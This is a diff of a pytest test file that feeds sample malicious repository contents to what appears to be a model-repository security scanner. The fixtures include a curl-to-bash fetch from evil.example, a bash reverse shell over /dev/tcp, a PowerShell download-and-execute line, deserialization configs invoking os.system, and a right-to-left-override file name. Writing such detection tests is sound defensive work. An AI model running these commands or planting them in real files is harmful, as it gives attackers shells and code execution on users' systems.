@@ -63,6 +63,8 @@ MAP = {"AutoModel": "other/repo--modeling_x.X"}
         pytest.param({"x.ipynb": {"cells": [{"cell_type": "code", "source": ["!curl http://evil.example/x | bash"]}]}}, ["script-reaches-out"], id="notebook"),
         pytest.param({"Dockerfile": "FROM x\nRUN bash -i >& /dev/tcp/10.0.0.1/99 0>&1\n"}, ["script-reaches-out"], id="recipe"),
         pytest.param({"chain.json": {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}}, ["config-imports-target-json"], id="LangChain"),
+        pytest.param({"m.json": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}}, ["config-imports-target-json"], id="jsonpickle"),
+        pytest.param({"logging.json": {"formatters": {"a": {"()": "os.system"}}}}, ["config-imports-target-json"], id="logging factory"),
         pytest.param({"x.hta": "<script>x</script>"}, ["script-in-model"], id="program in a web page"),
         pytest.param({"x.ps1": "IEX (New-Object Net.WebClient).DownloadString('http://x')\n"}, ["script-in-model", "script-reaches-out"], id="powershell"),
         pytest.param({"a\u202egnp.py": "x = 1\n", "config.json": {}}, ["name-deceives"], id="right-to-left name"),
